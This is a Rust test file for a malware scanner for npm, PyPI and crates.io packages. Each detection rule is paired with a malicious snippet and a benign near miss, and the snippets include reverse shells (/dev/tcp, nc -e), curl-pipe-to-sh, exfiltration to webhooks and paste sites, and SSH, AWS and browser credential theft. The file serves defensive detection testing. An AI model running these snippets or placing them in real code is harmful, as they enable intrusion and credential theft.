//! Every rule, bundled YARA rule or Rust analyser, with a malicious sample it must match and a
//! benign sample (a near miss, as legitimate packages write it) it must not; the rule table's
//! invariants; the user's rule files.

#![expect(
    clippy::unwrap_used,
    reason = "tests and their helpers: a panic is the failure report"
)]

use std::collections::BTreeSet;
use std::path::PathBuf;

use customs_core::Ecosystem;
use customs_inspect::{
    Analyzer, Archive, ArchiveKind, Category, EntryKind, File, InspectError, Level, RuleOrigin,
};

fn analyzer() -> Analyzer {
    Analyzer::new(&[]).expect("the bundled rules compile")
}

struct Sample {
    rule: &'static str,
    /// The file name the sample is scanned as (the rules see its name and extension).
    path: &'static str,
    malicious: Vec<u8>,
    benign: Vec<u8>,
}

fn text(rule: &'static str, path: &'static str, malicious: &str, benign: &str) -> Sample {
    Sample {
        rule,
        path,
        malicious: malicious.as_bytes().to_vec(),
        benign: benign.as_bytes().to_vec(),
    }
}

/// A minimal ELF header followed by `rest`.
fn elf(rest: &[u8]) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    bytes.extend_from_slice(rest);
    bytes
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Pseudo-random bytes (xorshift), for blobs.
fn noise(length: usize, seed: u64) -> Vec<u8> {
    let mut state = seed;
    (0..length)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect()
}

fn char_codes(text: &str) -> String {
    text.bytes()
        .map(|byte| byte.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

fn samples() -> Vec<Sample> {
    vec![
        // Capabilities.
        text(
            "process-spawn",
            "run.js",
            "const { execSync } = require('child_process');\nexecSync('ls');",
            "const processes = require('./processes');\nprocesses.list();",
        ),
        text(
            "network-access",
            "client.py",
            "import requests\nrequests.post(url, json=payload)",
            "import json\nrequests_made = 0  # counts calls to our cache",
        ),
        text(
            "file-download",
            "install.sh",
            "curl -fsSL https://downloads.example.invalid/tool.tgz -o /opt/tool.tgz",
            "echo 'download the tool from the website'",
        ),
        text(
            "make-executable",
            "setup.sh",
            "chmod +x ./bin/tool && ./bin/tool",
            "chmod 644 README.md",
        ),
        text(
            "temp-staging",
            "drop.js",
            "const target = require('path').join(os.tmpdir(), 'x');",
            "const target = require('path').join(process.cwd(), 'build');",
        ),
        text(
            "env-harvest",
            "collect.js",
            "const data = JSON.stringify(process.env);",
            "const mode = JSON.stringify(process.env.NODE_ENV);",
        ),
        // A copy of the environment for a subprocess is not a harvest.
        text(
            "env-harvest",
            "report.py",
            "requests.post(url, json=dict(os.environ))",
            "subprocess.run(command, env=dict(os.environ) if env is None else env)",
        ),
        text(
            "env-harvest",
            "beacon.py",
            "urllib.request.urlopen(url, json.dumps({'host': host, 'env': dict(os.environ)}).encode())",
            "ENVIRONMENT = MappingProxyType(dict(os.environ))",
        ),
        text(
            "env-secrets",
            "release.js",
            "const tokens = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];",
            "const token = process.env.GITHUB_TOKEN; // one service, our own",
        ),
        text(
            "ci-environment-check",
            "lib.rs",
            "if std::env::var(\"GITLAB_CI\").is_ok() { run(); }",
            "if std::env::var(\"HOME\").is_ok() { run(); }",
        ),
        text(
            "dynamic-code",
            "loader.js",
            "const result = eval(source);",
            "const result = evaluate(source); const matched = pattern.exec(text);",
        ),
        text(
            "decode-data",
            "util.py",
            "import base64\nraw = base64.b64decode(blob)",
            "import base64\nencoded = base64.b64encode(raw)",
        ),
        // Threats.
        text(
            "exfil-chat-webhook",
            "send.js",
            "fetch('https://discord.com/api/webhooks/000000000000000000/FAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtokenFAKEtoken000', {method: 'POST'})",
            "const url = `https://discord.com/api/webhooks/${id}/${token}`;",
        ),
        // Slack's documented placeholder is not a webhook.
        text(
            "exfil-chat-webhook",
            "alerts.py",
            "requests.post('https://hooks.slack.com/services/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', json=data)",
            "url: str = Field(description=\"e.g. 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\")",
        ),
        text(
            "exfil-oast-host",
            "probe.py",
            "requests.get('https://c0ffee.oast.fun/' + hostname)",
            "# see https://docs.example.com/oast-testing for out-of-band testing",
        ),
        text(
            "exfil-tunnel-host",
            "send.js",
            "fetch('https://abcd-203-0-113-7.ngrok-free.app/collect', {method: 'POST', body})",
            "// run `npx ngrok http 3000` to expose the dev server",
        ),
        text(
            "exfil-paste-site",
            "up.sh",
            "curl --upload-file ./dump.txt https://transfer.sh/dump.txt",
            "echo 'paste the output into the issue'",
        ),
        text(
            "credential-store-read",
            "keys.js",
            "const key = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'));",
            "const key = fs.readFileSync(path.join(__dirname, 'fixtures/test-key.pem'));",
        ),
        text(
            "credential-store-harvest",
            "steal.py",
            "paths = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc', '~/.kube/config']",
            "paths = ['~/.aws/credentials', '~/.aws/config']",
        ),
        text(
            "wallet-target",
            "grab.js",
            "const ext = 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn';",
            "const ext = 'Local Extension Settings/' + extensionId;",
        ),
        text(
            "wallet-address-swap",
            "hook.js",
            "const eth = /0x[a-fA-F0-9]{40}/g; const sol = /[1-9A-HJ-NP-Za-km-z]{32,44}/g; body = body.replace(eth, mine);",
            "const isAddress = (value) => /^0x[a-fA-F0-9]{40}$/.test(value);",
        ),
        text(
            "wallet-key-scan",
            "scan.rs",
            "let solana = Regex::new(r\"[1-9A-HJ-NP-Za-km-z]{87,88}\").unwrap();",
            "let address = Regex::new(r\"^[1-9A-HJ-NP-Za-km-z]{32,44}$\").unwrap();",
        ),
        text(
            "browser-profile-theft",
            "steal.py",
            "db = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\ndb = local + '/Google/Chrome/User Data/Default/Login Data'",
            "profile = os.path.join(local, 'Google', 'Chrome', 'User Data')  # for --user-data-dir",
        ),
        text(
            "crypto-miner",
            "run.sh",
            "./worker -o stratum+tcp://pool.example.invalid:3333 -u wallet",
            "./worker --threads 4 --queue jobs",
        ),
        // Each scheme, in any case.
        text(
            "crypto-miner",
            "start.sh",
            "exec ./worker -o STRATUM+SSL://pool.example.invalid:443",
            "exec ./worker -o https://pool.example.invalid:443",
        ),
        text(
            "reverse-shell",
            "x.sh",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "bash -c 'echo ready' > /dev/null 2>&1",
        ),
        // netcat's `-e` counts on netcat's line only: fish completions (in every clap-built
        // binary) say `set -e cmd[1]`, and a stray `nc` is anywhere in a binary.
        text(
            "reverse-shell",
            "connect.sh",
            "nc -e /bin/sh 203.0.113.9 4444\nncat.exe 203.0.113.9 4444 -e cmd.exe",
            "function __fish_tool_needs_command\n\tset -l cmd (commandline -opc)\n\tset -e cmd[1]\nend\n# check the port: nc -z localhost 8080\n",
        ),
        text(
            "reverse-shell",
            "connect.bat",
            "NCAT.EXE 203.0.113.9 4444 -e\tCMD.EXE",
            "ncat.exe 203.0.113.9 4444 --exec-timeout 5 cmd.exe",
        ),
        // dup2 onto a standard stream with a connection in the file; alone, it is a daemon
        // (or a comment about one) pointing stdin at /dev/null.
        text(
            "reverse-shell",
            "shell.py",
            "s = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)",
            "# e.g. in a REPL:\n#     import os; f = open(os.devnull); os.dup2(f.fileno(), 0)\n",
        ),
        text(
            "persistence",
            "install.sh",
            "(crontab -l; echo '*/5 * * * * ~/.x') | crontab -",
            "echo 'add the line to your crontab yourself'",
        ),
        text(
            "npm-self-propagation",
            "worm.js",
            "const list = await get(`/-/v1/search?text=maintainer:${user}`); for (const p of list) exec('npm publish');",
            "// release: run `npm publish` after the tests pass",
        ),
        text(
            "ci-workflow-injection",
            "worm.js",
            "put(`https://api.github.com/repos/${repo}/contents/.github/workflows/x.yml`, {headers: {Authorization: `token ${process.env.GITHUB_TOKEN}`}})",
            "fs.writeFileSync('.github/workflows/ci.yml', template); // scaffold a new project",
        ),
        text(
            "secret-scanner",
            "scan.js",
            "execSync('trufflehog filesystem / --json')",
            "// credentials are never logged; see trufflehog's docs for scanning your own repo",
        ),
        text(
            "github-exfil-repo",
            "leak.js",
            "await fetch('https://api.github.com/user/repos', {method: 'POST', headers: {Authorization: `token ${t}`}, body}); content: Buffer.from(data).toString('base64')",
            "await fetch('https://api.github.com/user', {headers: {Authorization: `token ${t}`}})",
        ),
        text(
            "browser-request-hook",
            "hook.js",
            "const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return send.call(this, body); };",
            "if (XMLHttpRequest.prototype.send === original) { report(); }",
        ),
        text(
            "decode-and-execute",
            "hook.py",
            "import base64\nexec(base64.b64decode(PAYLOAD))",
            "import base64\ndata = base64.b64decode(PAYLOAD)\nprint(data)",
        ),
        text(
            "remote-script-execution",
            "postinstall.sh",
            "curl -fsSL https://get.example.invalid/install.sh | sh",
            "curl -fsSL https://get.example.invalid/install.sh -o install.sh && less install.sh",
        ),
        text(
            "windows-lolbin",
            "run.bat",
            "regsvr32.exe -s create.dll",
            "echo register the DLL with regsvr32 as an administrator",
        ),
        text(
            "host-fingerprint",
            "probe.js",
            "const info = { user: os.userInfo().username, host: os.hostname(), nets: os.networkInterfaces() };",
            "const host = os.hostname();",
        ),
        // Obfuscation.
        text(
            "js-string-array-rotation",
            "index.js",
            "while(!![]){try{if(x===y)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}",
            "queue.push(queue.shift());",
        ),
        text(
            "pyarmor",
            "__init__.py",
            "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR')",
            "# obfuscation is not used in this package",
        ),
        text(
            "python-code-object-loader",
            "x.py",
            "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))",
            "import marshal\ndata = marshal.dumps(obj)",
        ),
        text(
            "js-hex-escaped-strings",
            "x.js",
            &"var a = ['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];\n".repeat(8),
            "var newline = '\\x0a';",
        ),
        // Entry points seen in a file.
        text(
            "python-setup-command-override",
            "setup.py",
            "from setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\nsetup(cmdclass={'install': PostInstall})",
            "from setuptools import setup\nsetup(name='x', cmdclass={'build_docs': BuildDocs})",
        ),
        // The subclass alone: the command table is built elsewhere.
        text(
            "python-setup-command-override",
            "setup.py",
            "from setuptools.command.develop import develop\nclass Hook( develop ):\n    def run(self):\n        develop.run(self)\nsetup(cmdclass=COMMANDS)",
            "from setuptools import Command\nclass Docs(Command):\n    pass\nsetup(cmdclass=COMMANDS)",
        ),
        // Rust analysers.
        Sample {
            rule: "encoded-blob",
            path: "x.js",
            malicious: format!("var p = '{}';", base64(&noise(600, 1))).into_bytes(),
            benign: format!(
                "var f = 'url(data:font/woff2;base64,{})';",
                base64(&noise(600, 1))
            )
            .into_bytes(),
        },
        Sample {
            rule: "embedded-executable",
            path: "x.py",
            malicious: format!("BIN = '{}'", base64(&elf(&noise(400, 2)))).into_bytes(),
            benign: format!(
                "PNG = '{}'",
                base64(&[b"\x89PNG\r\n\x1a\n".as_slice(), &noise(400, 2)].concat())
            )
            .into_bytes(),
        },
        text(
            "encoded-api-names",
            "x.js",
            "var n = ['6368696c645f70726f63657373', '65786563'];",
            "var colours = ['ff0000', '00ff00', 'c0ffee'];",
        ),
        Sample {
            rule: "char-code-array",
            path: "x.js",
            malicious: format!(
                "var u = String.fromCharCode({});",
                char_codes("https://exfil.example.invalid/collect")
            )
            .into_bytes(),
            benign: format!(
                "var table = [{}];",
                (0..40)
                    .map(|n| (n % 16).to_string())
                    .collect::<Vec<_>>()
                    .join(",")
            )
            .into_bytes(),
        },
        text(
            "obfuscator-identifiers",
            "x.js",
            "var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4,_0x5e6f=5,_0x6f70=6,_0x7081=7,_0x8192=8,_0x92a3=9,_0xa3b4=10;",
            "var mask = 0x1a2b, flags = 0x2b3c; var _private = 1;",
        ),
        text(
            "raw-ip-url",
            "x.sh",
            "wget http://203.0.113.7/payload",
            "curl http://127.0.0.1:8080/health && curl http://10.0.0.2/",
        ),
        Sample {
            rule: "native-executable",
            path: "bin/tool",
            malicious: elf(b"\0\0\0\0"),
            benign: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
        },
        Sample {
            rule: "executable-named-as-script",
            path: "lib/index.js",
            malicious: elf(b"\0\0\0\0"),
            benign: b"module.exports = 1;\n".to_vec(),
        },
        Sample {
            rule: "binary-named-as-script",
            path: "setup.py",
            malicious: b"\x00\x01\x02garbage\x00".to_vec(),
            benign: b"from setuptools import setup\nsetup()\n".to_vec(),
        },
    ]
}

fn rule_ids(analyzer: &Analyzer, path: &str, data: &[u8]) -> BTreeSet<String> {
    analyzer
        .scan_file(path, data, Ecosystem::Npm)
        .into_iter()
        .map(|hit| hit.rule_id)
        .collect()
}

#[test]
fn every_rule_matches_its_malicious_sample_and_not_its_benign_one() {
    let analyzer = analyzer();
    let mut failures = Vec::new();
    for sample in samples() {
        let malicious = rule_ids(&analyzer, sample.path, &sample.malicious);
        if !malicious.contains(sample.rule) {
            failures.push(format!(
                "{}: malicious sample not matched (got {malicious:?})",
                sample.rule
            ));
        }
        let benign = rule_ids(&analyzer, sample.path, &sample.benign);
        if benign.contains(sample.rule) {
            failures.push(format!("{}: benign sample matched", sample.rule));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// A package of `files` (paths and texts), as the archive reader would return it.
fn package(files: &[(&str, &[u8])]) -> Archive {
    Archive {
        kind: ArchiveKind::TarGz,
        files: files
            .iter()
            .enumerate()
            .map(|(index, (path, data))| File {
                path: (*path).to_owned(),
                index,
                data: data.to_vec(),
                executable: false,
            })
            .collect(),
        skipped: Vec::new(),
        package_root: None,
        duplicates: Vec::new(),
        entries: files.len(),
        unpacked_bytes: 0,
    }
}

fn package_rule_ids(ecosystem: Ecosystem, files: &[(&str, &[u8])]) -> BTreeSet<String> {
    analyzer()
        .analyze(&package(files), ecosystem)
        .hits
        .into_iter()
        .map(|hit| hit.rule_id)
        .collect()
}

/// (rule, ecosystem, malicious package, benign package), each package as (path, bytes).
type PackageSample = (
    &'static str,
    Ecosystem,
    Vec<(&'static str, Vec<u8>)>,
    Vec<(&'static str, Vec<u8>)>,
);

/// The rules about a package as a whole (manifests, entry points, what runs unasked).
fn package_samples() -> Vec<PackageSample> {
    let minified = format!("{}\n", "var a=require('./b');a.c(1,2,3);".repeat(200));
    vec![
        (
            "npm-install-script",
            Ecosystem::Npm,
            vec![("package.json", br#"{"name":"x","scripts":{"postinstall":"node setup.js"}}"#.to_vec())],
            vec![("package.json", br#"{"name":"x","scripts":{"test":"node test.js","build":"tsc"}}"#.to_vec())],
        ),
        (
            "python-setup-script",
            Ecosystem::PyPI,
            vec![("setup.py", b"from setuptools import setup\nsetup()\n".to_vec())],
            // A wheel: setup.py (if any) never runs.
            vec![
                ("x-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n".to_vec()),
                ("x/__init__.py", b"".to_vec()),
            ],
        ),
        (
            "python-in-tree-build-backend",
            Ecosystem::PyPI,
            vec![
                ("pyproject.toml", b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n".to_vec()),
                ("_build/backend.py", b"def build_wheel(*args): pass\n".to_vec()),
            ],
            vec![("pyproject.toml", b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n".to_vec())],
        ),
        (
            "python-startup-hook",
            Ecosystem::PyPI,
            vec![("x-1.0.dist-info/WHEEL", b"".to_vec()), ("x.pth", b"import x_hook\n".to_vec())],
            vec![("x-1.0.dist-info/WHEEL", b"".to_vec()), ("x.pth", b"./lib/extra\n".to_vec())],
        ),
        (
            "cargo-build-script",
            Ecosystem::CratesIo,
            vec![("Cargo.toml", b"[package]\nname = \"x\"\n".to_vec()), ("build.rs", b"fn main() {}\n".to_vec())],
            vec![("Cargo.toml", b"[package]\nname = \"x\"\nbuild = false\n".to_vec()), ("build.rs", b"fn main() {}\n".to_vec())],
        ),
        (
            "cargo-proc-macro",
            Ecosystem::CratesIo,
            vec![("Cargo.toml", b"[package]\nname = \"x\"\n[lib]\nproc-macro = true\n".to_vec()), ("src/lib.rs", b"".to_vec())],
            vec![("Cargo.toml", b"[package]\nname = \"x\"\n".to_vec()), ("src/lib.rs", b"".to_vec())],
        ),
        (
            "manifest-unreadable",
            Ecosystem::Npm,
            vec![("package.json", b"{\"name\": \"x\", \"scripts\": {".to_vec())],
            vec![("package.json", b"{\"name\": \"x\"}".to_vec())],
        ),
        (
            "minified-code",
            Ecosystem::Npm,
            vec![
                ("package.json", br#"{"scripts":{"install":"node install.js"}}"#.to_vec()),
                ("install.js", minified.clone().into_bytes()),
            ],
            // The same file, but only imported.
            vec![
                ("package.json", br#"{"main":"install.js"}"#.to_vec()),
                ("install.js", minified.into_bytes()),
            ],
        ),
    ]
}

#[test]
fn every_package_rule_matches_its_malicious_sample_and_not_its_benign_one() {
    for (rule, ecosystem, malicious, benign) in package_samples() {
        fn borrow<'a>(files: &'a [(&'static str, Vec<u8>)]) -> Vec<(&'static str, &'a [u8])> {
            files
                .iter()
                .map(|(path, data)| (*path, data.as_slice()))
                .collect()
        }
        assert!(
            package_rule_ids(ecosystem, &borrow(&malicious)).contains(rule),
            "{rule}: malicious sample not matched"
        );
        assert!(
            !package_rule_ids(ecosystem, &borrow(&benign)).contains(rule),
            "{rule}: benign sample matched"
        );
    }
}

#[test]
fn every_rule_has_samples_and_a_unique_kebab_case_id() {
    let analyzer = analyzer();
    let mut sampled: BTreeSet<&str> = samples().iter().map(|sample| sample.rule).collect();
    sampled.extend(package_samples().iter().map(|(rule, ..)| *rule));
    let mut ids = BTreeSet::new();
    for rule in analyzer.rules() {
        assert!(ids.insert(rule.id.as_str()), "duplicate id {}", rule.id);
        assert!(
            rule.id.split('-').all(|word| !word.is_empty()
                && word
                    .bytes()
                    .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit())),
            "{} is not kebab-case",
            rule.id
        );
        assert!(!rule.description.is_empty());
        assert!(rule.signal.is_some(), "{} has no signal", rule.id);
        assert!(
            sampled.contains(rule.id.as_str()),
            "{} has no samples",
            rule.id
        );
        assert!(matches!(
            rule.origin,
            RuleOrigin::Bundled | RuleOrigin::Builtin
        ));
    }
    let unknown: Vec<&&str> = sampled.iter().filter(|id| !ids.contains(**id)).collect();
    assert!(unknown.is_empty(), "samples of unknown rules: {unknown:?}");
    for category in Category::ALL {
        assert!(
            analyzer
                .rules()
                .iter()
                .any(|rule| rule.category == category)
        );
    }
}

fn write_rules(name: &str, text: &str) -> (tempfile::TempDir, PathBuf) {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join(name);
    std::fs::write(&path, text).unwrap();
    (directory, path)
}

#[test]
fn user_rules_add_to_the_bundled_ones() {
    let (_directory, path) = write_rules(
        "house.yar",
        r#"
rule internal_host {
    meta:
        id = "internal-host"
        description = "names our internal build host"
        category = "threat"
        severity = "critical"
    strings:
        $a = "build.corp.example.invalid"
    condition:
        $a and file_extension == "js"
}
"#,
    );
    let analyzer = Analyzer::new(&[path]).unwrap();
    assert!(analyzer.user_rules_digest().is_some());
    assert!(
        analyzer
            .rules()
            .iter()
            .any(|rule| rule.id == "internal-host")
    );
    let archive = package(&[
        ("package.json", br#"{"main":"index.js"}"#),
        ("index.js", b"fetch('https://build.corp.example.invalid/')"),
    ]);
    let verdict = analyzer.analyze(&archive, Ecosystem::Npm);
    assert_eq!(verdict.level, Level::Malicious, "{:#?}", verdict);
    let hit = verdict
        .hits
        .iter()
        .find(|hit| hit.rule_id == "internal-host")
        .unwrap();
    assert_eq!(hit.reachable_from, Some(EntryKind::Import));
    assert_eq!(hit.signal, None);
}

#[test]
fn a_user_rule_that_does_not_compile_names_its_file_and_line() {
    let (_directory, path) = write_rules(
        "broken.yar",
        "rule ok {\n  meta:\n    id = \"ok-rule\"\n  condition:\n    true and and\n}\n",
    );
    let error = Analyzer::new(std::slice::from_ref(&path)).unwrap_err();
    match &error {
        InspectError::RuleCompile {
            path: shown, line, ..
        } => {
            assert_eq!(shown, &path);
            assert_eq!(*line, 5);
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(error.to_string().contains("broken.yar"), "{error}");
    assert!(error.to_string().contains("line 5"), "{error}");
}

#[test]
fn a_user_rule_with_bad_meta_is_refused() {
    let (_directory, path) = write_rules(
        "meta.yar",
        "rule no_category {\n  meta:\n    id = \"no-category\"\n    description = \"x\"\n    severity = \"low\"\n  condition:\n    true\n}\n",
    );
    let error = Analyzer::new(&[path]).unwrap_err();
    assert!(matches!(error, InspectError::RuleMeta { .. }), "{error:?}");
    assert!(error.to_string().contains("category"), "{error}");

    let (_directory, path) = write_rules(
        "clash.yar",
        "rule clash {\n  meta:\n    id = \"crypto-miner\"\n    description = \"x\"\n    category = \"threat\"\n    severity = \"low\"\n  condition:\n    false\n}\n",
    );
    let error = Analyzer::new(&[path]).unwrap_err();
    assert!(
        matches!(error, InspectError::DuplicateRuleId { .. }),
        "{error:?}"
    );
}

#[test]
fn a_rule_directory_is_read_in_name_order() {
    let directory = tempfile::tempdir().unwrap();
    for (name, id) in [
        ("b.yar", "second-rule"),
        ("a.yara", "first-rule"),
        ("notes.txt", "ignored"),
    ] {
        std::fs::write(
            directory.path().join(name),
            format!("rule r {{\n  meta:\n    id = \"{id}\"\n    description = \"x\"\n    category = \"capability\"\n    severity = \"low\"\n  condition:\n    false\n}}\n"),
        )
        .unwrap();
    }
    let analyzer = Analyzer::new(&[directory.path().to_owned()]).unwrap();
    let user: Vec<&str> = analyzer
        .rules()
        .iter()
        .filter(|rule| matches!(rule.origin, RuleOrigin::User(_)))
        .map(|rule| rule.id.as_str())
        .collect();
    assert_eq!(user, ["first-rule", "second-rule"]);
    let missing = Analyzer::new(&[directory.path().join("missing.yar")]).unwrap_err();
    assert!(matches!(missing, InspectError::RuleRead { .. }));
}

#[test]
fn an_analyzer_is_shared_between_threads() {
    fn shareable<T: Send + Sync>() {}
    shareable::<Analyzer>();
}

#[test]
fn compiled_rules_are_kept_and_read_back() {
    let cache = tempfile::tempdir().unwrap();
    let (_directory, user) = write_rules(
        "internal.yar",
        r#"rule internal_host {
    meta:
        id = "internal-host"
        description = "our build host"
        category = "threat"
        severity = "high"
    strings:
        $host = "build.corp.example.invalid"
    condition:
        $host
}"#,
    );
    let first = Analyzer::with_rule_cache(std::slice::from_ref(&user), cache.path()).unwrap();
    let kept: Vec<PathBuf> = std::fs::read_dir(cache.path())
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert_eq!(kept.len(), 1, "{kept:?}");
    let second = Analyzer::with_rule_cache(std::slice::from_ref(&user), cache.path()).unwrap();
    assert_eq!(first.rules(), second.rules());
    assert_eq!(first.user_rules_digest(), second.user_rules_digest());
    let data = b"fetch('https://build.corp.example.invalid/x')";
    let ids = |analyzer: &Analyzer| -> Vec<String> {
        analyzer
            .scan_file("index.js", data, Ecosystem::Npm)
            .into_iter()
            .map(|hit| hit.rule_id)
            .collect()
    };
    assert!(ids(&second).contains(&"internal-host".to_owned()));
    assert_eq!(ids(&first), ids(&second));

    // A damaged file is compiled anew, not trusted; other rules get a file of their own.
    std::fs::write(&kept[0], b"not compiled rules").unwrap();
    let third = Analyzer::with_rule_cache(std::slice::from_ref(&user), cache.path()).unwrap();
    assert_eq!(ids(&third), ids(&first));
    let bundled_only = Analyzer::with_rule_cache(&[], cache.path()).unwrap();
    assert!(!ids(&bundled_only).contains(&"internal-host".to_owned()));
    assert_eq!(std::fs::read_dir(cache.path()).unwrap().count(), 2);
}
